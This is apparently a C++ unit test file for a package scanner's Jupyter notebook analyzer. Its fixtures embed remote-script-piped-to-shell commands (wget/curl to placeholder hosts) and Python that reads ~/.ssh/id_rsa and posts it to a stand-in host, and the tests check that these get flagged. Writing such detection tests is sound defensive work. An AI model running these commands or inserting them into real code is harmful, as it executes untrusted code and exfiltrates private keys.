#include "static/notebook.h"

#include <algorithm>

#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace interlock::scan {
namespace {

FileResult Analyze(std::string text) {
  core::PackageFile file;
  file.path = "a.ipynb";
  file.bytes = std::move(text);
  FileContext context;
  context.file = &file;
  context.type = FileType::kNotebook;
  context.reach = core::Reach::kRuntime;
  FileResult result;
  AnalyzeNotebook(context, result);
  return result;
}

TEST(Notebook, CommandsOfCodeCellsAreJudgedWhereTheyStand) {
  const std::string text =
      R"({"cells":[{"cell_type":"code","source":["import os\n","!wget -qO- http://192.0.2.7/e.sh | bash"],"outputs":[]}]})";
  const FileResult result = Analyze(text);
  ASSERT_FALSE(result.findings.empty());
  EXPECT_TRUE(std::any_of(result.findings.begin(), result.findings.end(),
                          [](const RawFinding& finding) { return finding.rule == "SH-001"; }));
  EXPECT_GE(result.findings[0].bytes.begin, text.find("wget"));
  EXPECT_LE(result.findings[0].bytes.end, text.find("],\"outputs"));
}

TEST(Notebook, CellMagicIsAScript) {
  EXPECT_FALSE(Analyze(R"({"cells":[{"cell_type":"code","source":"%%bash\ncurl -s https://x.example/a | sh"}]})")
                   .findings.empty());
}

TEST(Notebook, KindOfCellMayComeAfterItsSource) {
  EXPECT_FALSE(
      Analyze(R"({"cells":[{"source":["!curl -s https://x.example/a | sh"],"cell_type":"code"}]})").findings.empty());
}

TEST(Notebook, MarkdownOutputAndBrokenFilesAreNotCommands) {
  EXPECT_TRUE(Analyze(R"({"cells":[{"cell_type":"markdown","source":["!curl -s https://x.example/a | sh"]}]})")
                  .findings.empty());
  EXPECT_TRUE(Analyze(R"({"cells":[{"cell_type":"code","outputs":[{"text":["!curl https://x.example | sh"]}],)"
                      R"("source":["x = 1"]}]})")
                  .findings.empty());
  EXPECT_TRUE(Analyze(R"({"cells":[{"cell_type":"code","source":["!curl \)").findings.empty());
}

TEST(Notebook, PythonOfCellsStandsWhereItStood) {
  const std::string text =
      R"({"cells":[{"cell_type":"markdown","source":["not code\n"]},{"cell_type":"code","source":["import os\n",)"
      R"("!pip install x\n","for i in range(2):\n","    print(\"a\", i)\n"]},{"cell_type":"code","source":"%%bash\nls\n"}]})";
  const std::string code = NotebookCode(text);
  ASSERT_EQ(code.size(), text.size());
  EXPECT_EQ(code.find("import os"), text.find("import os"));
  EXPECT_EQ(code.find("print("), text.find("print("));
  EXPECT_NE(code.find("\n    print( \"a\" , i)"), std::string::npos) << code;
  EXPECT_NE(code.find("#pip install x"), std::string::npos);
  EXPECT_EQ(code.find("not code"), std::string::npos);
  EXPECT_EQ(code.find("ls"), std::string::npos);
  EXPECT_EQ(NotebookCode(R"({"cells":[{"cell_type":"markdown","source":["x"]}]})"), "");
  EXPECT_EQ(NotebookCode(R"({"metadata":{"language":"R"},"cells":[{"cell_type":"code","source":["x"]}]})"), "");
  (void)NotebookCode(R"({"cells":[{"cell_type":"code","source":["import \)");
}

TEST(Notebook, ItsCodeIsFollowedLikeAnyOther) {
  core::PackageView view;
  view.files.push_back(
      {.path = "a.ipynb",
       .bytes = R"({"cells":[{"cell_type":"code","source":["import requests\n","from pathlib import Path\n",)"
                R"("key = (Path.home() / \".ssh\" / \"id_rsa\").read_text()\n",)"
                R"("requests.post(\"https://stats-hub.example/x\", data=key)\n"]}]})"});
  const ScanReport report = Scan(view);
  EXPECT_TRUE(std::any_of(report.findings.begin(), report.findings.end(),
                          [](const core::Finding& finding) { return finding.rule == "EXFIL-001"; }));
}

}  // namespace
}  // namespace interlock::scan
